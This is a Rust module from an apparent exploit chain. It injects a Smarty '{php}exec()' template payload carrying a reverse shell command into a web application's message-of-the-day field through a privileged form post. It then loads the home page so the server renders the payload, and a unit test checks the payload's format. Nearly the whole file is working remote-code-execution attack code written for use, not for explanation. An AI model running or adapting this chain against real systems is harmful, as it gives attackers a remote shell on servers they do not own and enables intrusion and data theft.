use crate::errors::ChainError;
use crate::http::endpoints;
use super::RceDispatcher;
use tracing::info;

/// Smarty `{php}` block around a shell command.
pub fn payload(command: &str) -> String {
    format!("{{php}}exec(\"{}\");{{/php}}", command)
}

/// Write the payload into the message of the day, which the home page
/// renders through the template engine.
pub(super) async fn run(dispatcher: &RceDispatcher<'_>) -> Result<(), ChainError> {
    let payload = payload(&dispatcher.reverse_shell());
    let reply = dispatcher
        .session
        .post_form_privileged(endpoints::UPDATE_MOTD, &[("message", payload.as_str())])
        .await?;

    if !(reply.contains(&dispatcher.config.markers.motd_set) || reply.is_ok()) {
        return Err(ChainError::Assertion(format!(
            "MoTD update rejected (status {}): {}",
            reply.status,
            reply.preview(200)
        )));
    }
    info!("Changed MoTD");

    dispatcher.trigger(endpoints::HOME).await
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_payload_wraps_command() {
        assert_eq!(payload("id"), "{php}exec(\"id\");{/php}");
    }
}
